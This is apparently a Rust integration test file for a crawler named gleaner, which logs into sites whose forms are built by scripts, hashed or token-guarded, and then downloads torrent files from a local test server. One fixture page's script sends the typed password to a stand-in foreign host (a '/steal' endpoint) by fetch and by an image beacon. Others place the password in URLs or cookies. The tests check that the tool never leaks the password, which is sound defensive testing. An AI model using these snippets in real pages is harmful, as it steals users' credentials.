//! Logins that need their page's scripts, over real sockets: forms that scripts build, forms that scripts send, and pages that would do
//! something else with the password. One server, each site a folder of it.

use std::collections::HashMap;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, Method, StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

const PASSWORD: &str = "s3cret & grün+%";
const TORRENTS: usize = 40;

/// A page whose form is built by its script, stands in no `form`, waits for its fields as a framework does, and posts JSON with a token
/// that another request brought.
const BUILT: &str = r#"
    const field = (id, type) => { const one = document.createElement('input'); one.id = id; one.type = type;
        // As React does: what is set through the object is not seen as typed.
        const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
        Object.defineProperty(one, 'value', { configurable: true, get() { return own.get.call(this) },
            set(text) { this.tracked = text; own.set.call(this, text) } });
        one.addEventListener('input', () => { if (own.get.call(one) !== one.tracked) state[id] = own.get.call(one); ready() });
        return one };
    const state = {}; const go = document.createElement('button'); go.textContent = 'Sign in'; go.disabled = true;
    const ready = () => { go.disabled = !(state.user && state.pass) };
    const said = document.createElement('p');
    fetch('api/csrf').then(r => r.json()).then(csrf => {
        const app = document.getElementById('app');
        app.append('User name', field('user', 'text'), 'Password', field('pass', 'password'), go, said);
        go.addEventListener('click', async () => {
            const r = await fetch('api/login', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-CSRF': csrf.token },
                body: JSON.stringify({ user: state.user, password: state.pass }) });
            if (r.ok) location = './'; else said.textContent = 'Wrong password';
        });
    });"#;

/// A form without an action whose handler sends two hashes in place of the password.
const HASHED: &str = r#"
    function md5(text) {
        var i, k = [], s = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
        for (i = 0; i < 64; i++) k[i] = Math.floor(Math.abs(Math.sin(i + 1)) * 4294967296) | 0;
        var bytes = unescape(encodeURIComponent(text)).split('').map(function (c) { return c.charCodeAt(0); });
        var bits = bytes.length * 8; bytes.push(128);
        while (bytes.length % 64 != 56) bytes.push(0);
        for (i = 0; i < 8; i++) bytes.push(i < 4 ? (bits >>> (8 * i)) & 255 : 0);
        var h = [0x67452301, 0xefcdab89 | 0, 0x98badcfe | 0, 0x10325476];
        for (var o = 0; o < bytes.length; o += 64) {
            var m = [], a = h[0], b = h[1], c = h[2], d = h[3], f, g;
            for (i = 0; i < 16; i++) m[i] = bytes[o + 4 * i] | bytes[o + 4 * i + 1] << 8 | bytes[o + 4 * i + 2] << 16 | bytes[o + 4 * i + 3] << 24;
            for (i = 0; i < 64; i++) {
                if (i < 16) { f = b & c | ~b & d; g = i; } else if (i < 32) { f = d & b | ~d & c; g = (5 * i + 1) % 16; }
                else if (i < 48) { f = b ^ c ^ d; g = (3 * i + 5) % 16; } else { f = c ^ (b | ~d); g = 7 * i % 16; }
                f = f + a + k[i] + m[g] | 0; a = d; d = c; c = b;
                var r = s[(i >> 4) * 4 + i % 4]; b = b + (f << r | f >>> 32 - r) | 0;
            }
            h = [h[0] + a | 0, h[1] + b | 0, h[2] + c | 0, h[3] + d | 0];
        }
        return h.map(function (n) { var t = ''; for (var j = 0; j < 4; j++) t += ('0' + (n >>> 8 * j & 255).toString(16)).slice(-2); return t; }).join('');
    }
    function seal(form) { form.sealed.value = md5(form.salt.value + md5(form.pass.value)); form.pass.value = ''; return true; }"#;

/// A page that would tell its password to another host, to its console and in an error.
const FOREIGN: &str = r#"document.getElementById('go').onclick = () => { const secret = document.getElementById('pass').value;
    console.log(secret, btoa(unescape(encodeURIComponent(secret))));
    fetch('http://127.0.0.2:PORT/steal', { method: 'POST', body: secret });
    new Image().src = 'http://127.0.0.2:PORT/steal?' + encodeURIComponent(secret);
    throw new Error('sent ' + secret + ' ' + encodeURIComponent(secret)) };"#;

/// A page that asks whether the name is known once it is typed, and writes the password into a cookie.
const TYPED: &str = r#"user.onchange = () => fetch('check-user', { method: 'POST', body: user.value }).catch(() => 0);
    go.onclick = async () => { document.cookie = 'p=' + encodeURIComponent(pass.value) + '; path=/';
        const r = await fetch('in', { method: 'POST', body: user.value + '\n' + pass.value }); if (r.ok) location = './' };"#;

/// What a site's own state is.
#[derive(Default)]
struct Place {
    session: Option<u64>,
    sessions: u64,
    answers: u64,
    logins: u64,
    wrong: u64,
    ended: u64,
    log: Vec<(Method, String)>,
}

#[derive(Default)]
struct Web {
    places: Mutex<HashMap<String, Place>>,
    /// Requests to the host that is nobody's.
    stolen: Mutex<Vec<String>>,
    port: Mutex<u16>,
}

fn page(text: String) -> Response {
    ([(header::CONTENT_TYPE, "text/html; charset=utf-8")], text).into_response()
}

fn script(text: String) -> Response {
    ([(header::CONTENT_TYPE, "text/javascript; charset=utf-8")], text).into_response()
}

fn hex_md5(bytes: &[u8]) -> String {
    use md5::Digest as _;
    md5::Md5::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

const LOOSE: &str =
    "<div>User name <input id=user> Password <input id=pass type=password><button id=go>Log in</button></div>";

async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: HeaderMap, body: Bytes) -> Response {
    let text = |name: header::HeaderName| headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
    if text(header::HOST).starts_with("127.0.0.2") {
        web.stolen.lock().unwrap().push(uri.to_string());
        return StatusCode::OK.into_response();
    }
    if uri.path() == "/robots.txt" {
        return StatusCode::NOT_FOUND.into_response();
    }
    let (site, path) = uri.path().trim_start_matches('/').split_once('/').unwrap_or(("", ""));
    let mut places = web.places.lock().unwrap();
    let place = places.entry(site.to_owned()).or_default();
    place.log.push((method.clone(), path.to_owned()));
    let cookies = text(header::COOKIE);
    let number = |mark: &str, of: &str| {
        let rest = of.split_once(mark)?.1;
        rest.split(|of: char| !of.is_ascii_digit()).next()?.parse::<u64>().ok()
    };
    let shown = if site == "bearer" { number("Bearer ", text(header::AUTHORIZATION)) } else { number("sid=", cookies) };
    let has_leaked = cookies.split("; ").any(|cookie| cookie.starts_with("p="));
    let mut is_member = shown.is_some() && shown == place.session && !has_leaked;
    let is_wanted = path.is_empty() || path.ends_with(".torrent");
    if is_member && is_wanted {
        place.answers += 1;
        if place.answers > 25 {
            (is_member, place.session) = (false, None);
            place.ended += 1;
        }
    }
    let body = String::from_utf8_lossy(&body).into_owned();
    let port = *web.port.lock().unwrap();
    let mut judge = |is_right: bool| {
        if !is_right {
            place.wrong += 1;
            return None;
        }
        place.logins += 1;
        place.sessions += 1;
        (place.session, place.answers) = (Some(place.sessions), 0);
        Some(place.sessions)
    };
    match (method, site, path) {
        (Method::GET, "built", "login") => page("<title>Log in</title><div id=app></div><script src=app.js></script>".to_owned()),
        (Method::GET, "built", "app.js") => script(BUILT.to_owned()),
        (Method::GET, "built", "api/csrf") => {
            let json = [(header::CONTENT_TYPE, "application/json"), (header::SET_COOKIE, "csrf=t0; Path=/built; HttpOnly")];
            (json, r#"{"token":"t0"}"#).into_response()
        }
        (Method::POST, "built" | "bearer", "api/login") => {
            let is_guarded = site == "bearer" || (text(header::HeaderName::from_static("x-csrf")) == "t0" && cookies.contains("csrf=t0"));
            let expected = serde_json::json!({ "user": "anna", "password": PASSWORD });
            let is_right = is_guarded && serde_json::from_str::<serde_json::Value>(&body).is_ok_and(|body| body == expected);
            match (judge(is_right), site) {
                (None, _) => (StatusCode::UNAUTHORIZED, r#"{"error":"no"}"#).into_response(),
                (Some(session), "bearer") => format!(r#"{{"token":"{session}"}}"#).into_response(),
                (Some(session), _) => ([(header::SET_COOKIE, format!("sid={session}; Path=/built; HttpOnly"))], "{}").into_response(),
            }
        }
        (Method::GET, "bearer", "login") => page(format!("<title>Log in</title>{LOOSE}<script src=app.js></script>")),
        (Method::GET, "bearer", "app.js") => script(
            "go.onclick = () => fetch('api/login', { method: 'POST', body: JSON.stringify({ user: user.value, password: pass.value }) })
                .then(r => r.json()).then(d => { localStorage.token = d.token;
                    return fetch('api/me', { headers: { Authorization: 'Bearer ' + d.token } }) }).then(r => location = './');"
                .to_owned(),
        ),
        (Method::GET, "bearer", "api/me") if is_member => r#"{"name":"anna"}"#.into_response(),
        (Method::GET, "hashed", "login") => page(
            "<title>Log in</title><form method=post onsubmit='return seal(this)'>User name <input name=user>\
             Password <input type=password name=pass><input type=hidden name=salt value=5a17><input type=hidden name=sealed>\
             <input type=submit value='Log in'></form><script src=md5.js></script>"
                .to_owned(),
        ),
        (Method::GET, "hashed", "md5.js") => script(HASHED.to_owned()),
        (Method::POST, "hashed", "login") => {
            let sealed = hex_md5(format!("5a17{}", hex_md5(PASSWORD.as_bytes())).as_bytes());
            match judge(body == format!("user=anna&pass=&salt=5a17&sealed={sealed}")) {
                Some(session) => {
                    let cookie = format!("sid={session}; Path=/hashed; HttpOnly");
                    (StatusCode::FOUND, [(header::SET_COOKIE, cookie.as_str()), (header::LOCATION, "/hashed/")]).into_response()
                }
                None => page("Wrong password. <form method=post onsubmit='return seal(this)'><input name=user><input type=password name=pass></form>".to_owned()),
            }
        }
        (Method::GET, "foreign", "login") => page(format!("{LOOSE}<script>{}</script>", FOREIGN.replace("PORT", &port.to_string()))),
        (Method::GET, "silent", "login") => {
            page(format!("{LOOSE}<script>go.onclick = () => {{ throw new Error('no ' + pass.value) }}</script>"))
        }
        (Method::GET, "leaks", "login") => page(format!("{LOOSE}<script>go.onclick = () => {{ location = 'in?p=' + encodeURIComponent(pass.value) }}</script>")),
        (Method::GET, "query", "login") => page(format!(
            "{LOOSE}<script>go.onclick = () => fetch('in?p=' + encodeURIComponent(pass.value), {{ method: 'POST', body: 'x' }})</script>"
        )),
        (Method::GET, "loaded", "login") => {
            page(format!("{LOOSE}<form id=other method=post action=in></form><script>other.submit()</script>"))
        }
        (Method::GET, "typed", "login") => page(format!("<title>Log in</title>{LOOSE}<script>{TYPED}</script>")),
        (Method::POST, "typed", "in") => match judge(body == format!("anna\n{PASSWORD}")) {
            Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/typed; HttpOnly"))], "{}").into_response(),
            None => (StatusCode::UNAUTHORIZED, "no").into_response(),
        },
        (Method::GET, "twice", "login") => page(format!(
            "{LOOSE}<script>fetch('early', {{ method: 'POST' }}).catch(() => 0); go.onclick = () => {{ \
             for (let n = 0; n < 5; n++) fetch('in' + n, {{ method: 'POST', body: pass.value }}).catch(() => 0) }}</script>"
        )),
        (Method::POST, "twice", _) => {
            judge(false);
            (StatusCode::UNAUTHORIZED, "no").into_response()
        }
        (Method::GET, "plain", "login") => page(
            "<form method=post action=in>User name <input name=user>Password <input type=password name=pass>\
             <input type=submit value='Log in'></form><script src=app.js></script>"
                .to_owned(),
        ),
        (Method::POST, "plain", "in") => {
            let is_right = url::form_urlencoded::parse(body.as_bytes()).any(|(name, value)| name == "pass" && value == PASSWORD);
            judge(is_right).map_or_else(
                || page("Wrong password".to_owned()),
                |session| {
                    let cookie = format!("sid={session}; Path=/plain; HttpOnly");
                    (StatusCode::FOUND, [(header::SET_COOKIE, cookie.as_str()), (header::LOCATION, "/plain/")]).into_response()
                },
            )
        }
        (Method::GET, _, path) if is_member && path.ends_with(".torrent") => {
            let name = format!("{site}-{path}").replace('/', "-");
            let torrent = format!("d4:infod6:lengthi4e4:name{}:{name}12:piece lengthi16384e6:pieces20:aaaaaaaaaaaaaaaaaaaaee", name.len());
            ([(header::CONTENT_TYPE, "application/x-bittorrent")], torrent).into_response()
        }
        (Method::GET, _, "") if is_member => {
            let links: String = (0..TORRENTS).map(|number| format!("<a href=dl/{number}.torrent>{number}</a> ")).collect();
            page(format!("<a href=logout>Log out [ anna ]</a>{links}"))
        }
        (Method::GET, _, path) if is_wanted || path == "in" => {
            (StatusCode::FOUND, [(header::LOCATION, format!("/{site}/login"))]).into_response()
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

struct Stage {
    web: Arc<Web>,
    site: &'static str,
    folder: tempfile::TempDir,
    _runtime: tokio::runtime::Runtime,
}

impl Stage {
    /// The server, and the rule file of one site with these lines in it.
    fn new(site: &'static str, lines: &str) -> Self {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let web = Arc::<Web>::default();
        let app = Router::new().fallback(answer).with_state(Arc::clone(&web));
        let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
        let port = listener.local_addr().unwrap().port();
        *web.port.lock().unwrap() = port;
        // The host that is nobody's would hear what is sent to it.
        let foreign = runtime.block_on(tokio::net::TcpListener::bind(("127.0.0.2", port))).unwrap();
        let of_foreign = app.clone();
        runtime.spawn(async move { axum::serve(listener, app).await.unwrap() });
        runtime.spawn(async move { axum::serve(foreign, of_foreign).await.unwrap() });
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir(folder.path().join("rules")).unwrap();
        let rules = format!(
            "start = ['http://127.0.0.1:{port}/{site}/']\n[login]\nuser = 'anna'\n{lines}\n[classes]\nindex = ['^/{site}/$']\n\
             download = ['\\.torrent$']\npage = ['.']\n[rate]\nrequests_per_second = 1000000\nrest_factor = 0\n"
        );
        fs::write(folder.path().join("rules/site.toml"), rules).unwrap();
        let stage = Self { web, site, folder, _runtime: runtime };
        stage.set_password(PASSWORD);
        stage
    }

    fn data(&self) -> PathBuf {
        self.folder.path().join("data")
    }

    fn set_password(&self, password: &str) {
        let folder = self.data().join("secrets");
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join("site"), format!("{password}\n")).unwrap();
        fs::set_permissions(folder.join("site"), fs::Permissions::from_mode(0o600)).unwrap();
    }

    fn run(&self, arguments: &[&str]) -> (Output, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_gleaner"));
        command.args(arguments).arg("--data").arg(self.data()).arg("--rules").arg(self.folder.path().join("rules"));
        let output = command.env_remove("CREDENTIALS_DIRECTORY").env("GLEANER_LOG", "trace").output().unwrap();
        let told = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        for secret in forms(PASSWORD) {
            assert!(!told.contains(&secret), "{secret} is told:\n{told}");
        }
        (output, told)
    }

    fn of<T>(&self, what: impl FnOnce(&Place) -> T) -> T {
        what(self.web.places.lock().unwrap().entry(self.site.to_owned()).or_default())
    }

    fn posts(&self) -> usize {
        self.of(|place| place.log.iter().filter(|(method, _)| *method == Method::POST).count())
    }

    fn asked(&self, path: &str) -> usize {
        self.of(|place| place.log.iter().filter(|(_, asked)| asked == path).count())
    }
}

/// A secret in the forms in which a page might tell it.
fn forms(secret: &str) -> Vec<String> {
    vec![
        secret.to_owned(),
        url::form_urlencoded::byte_serialize(secret.as_bytes()).collect(),
        percent_encoding::utf8_percent_encode(secret, percent_encoding::NON_ALPHANUMERIC).to_string(),
        STANDARD.encode(secret),
        hex_md5(secret.as_bytes()),
    ]
}

fn torrents(folder: &Path) -> usize {
    let Ok(entries) = fs::read_dir(folder) else { return 0 };
    let of = |path: PathBuf| match path.is_dir() {
        true => torrents(&path),
        false => usize::from(path.extension().is_some_and(|of| of == "torrent")),
    };
    entries.map(|entry| of(entry.unwrap().path())).sum()
}

#[test]
fn a_form_that_scripts_build_logs_in_and_is_told_step_by_step() {
    let stage = Stage::new("built", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    for part in [
        "has no form without its scripts: rendered, 1 form",
        "user=anna  pass=••••••",
        "scripts send it: POST http://127.0.0.1",
        "/built/api/login (JSON: password=••••••  user=anna)",
        "proof: ",
    ] {
        assert!(told.contains(part), "{part} is missing in\n{told}");
    }
    assert_eq!(stage.posts(), 1);
}

#[test]
fn a_handler_that_hashes_is_run_where_its_form_has_no_action() {
    let stage = Stage::new("hashed", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    assert!(told.contains("its form needs scripts (") && told.contains("rendered, 1 form"), "{told}");
    assert_eq!((stage.posts(), stage.of(|place| place.logins)), (1, 1), "{told}");
}

#[test]
fn crawls_survive_sessions_that_end_with_one_login_each() {
    for (site, lines) in [("built", ""), ("hashed", ""), ("bearer", "probe = '/bearer/api/me'\npage = '/bearer/login'")]
    {
        let stage = Stage::new(site, lines);
        let (crawl, told) = stage.run(&["crawl", "site"]);
        assert!(crawl.status.success(), "{site}: {told}");
        assert_eq!(torrents(&stage.data().join("torrents")), TORRENTS, "{site}: {told}");
        let (logins, wrong, ended) = stage.of(|place| (place.logins, place.wrong, place.ended));
        assert!(ended >= 1, "{site}: no session ended");
        assert_eq!((logins, wrong, stage.posts() as u64), (ended + 1, 0, ended + 1), "{site}: {told}");
    }
}

#[test]
fn a_wrong_password_is_told_and_sent_once() {
    for site in ["built", "hashed"] {
        let stage = Stage::new(site, "");
        stage.set_password("n0t the password");
        for _ in 0..2 {
            let (login, told) = stage.run(&["login", "site", "-vv"]);
            assert_eq!(login.status.code(), Some(1), "{site}: {told}");
            assert!(!told.contains("n0t the password"), "{site}: {told}");
        }
        assert_eq!(stage.posts(), 1, "{site}");
        let (_, told) = stage.run(&["status"]);
        assert!(told.contains("the user name or the password is wrong"), "{site}: {told}");
        assert_eq!(stage.posts(), 1, "{site}");
    }
}

#[test]
fn a_password_for_another_host_or_an_address_never_leaves() {
    for (site, reason) in [
        ("foreign", "would have sent the password to 127.0.0.2"),
        ("leaks", "its scripts would write the password into an address"),
        ("query", "its address carries the password"),
        ("loaded", "its scripts sent nothing when the form was submitted"),
        ("silent", "its scripts sent nothing when the form was submitted (a script failed: Error: no ••••••)"),
    ] {
        let stage = Stage::new(site, &format!("page = '/{site}/login'"));
        let (login, told) = stage.run(&["login", "site", "-vv"]);
        assert_eq!(login.status.code(), Some(1), "{site}: {told}");
        assert!(told.contains(reason), "{site}: {told}");
        assert_eq!((stage.posts(), stage.asked("in")), (0, 0), "{site}: {told}");
        let stolen = stage.web.stolen.lock().unwrap();
        assert!(stolen.is_empty(), "{stolen:?}");
    }
}

#[test]
fn of_all_writes_of_a_page_one_leaves_and_none_before_its_form() {
    let stage = Stage::new("twice", "page = '/twice/login'");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert_eq!((login.status.code(), stage.posts()), (Some(1), 1), "{told}");
    assert_eq!(stage.asked("early"), 0, "{told}");
    assert!(told.contains("a login posts once"), "{told}");
}

#[test]
fn what_is_posted_while_a_name_is_typed_is_no_login_and_no_cookie_takes_the_password() {
    let stage = Stage::new("typed", "page = '/typed/login'");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    assert_eq!((stage.posts(), stage.asked("check-user"), stage.of(|place| place.logins)), (1, 0, 1), "{told}");
}

#[test]
fn forms_that_need_no_scripts_are_sent_without_and_never_is_obeyed() {
    let stage = Stage::new("plain", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    assert_eq!(stage.asked("app.js"), 0, "its scripts are nobody's business");
    let stage = Stage::new("built", "[render]\nlogin = 'never'");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert_eq!((login.status.code(), stage.asked("app.js"), stage.posts()), (Some(1), 0, 0), "{told}");
}
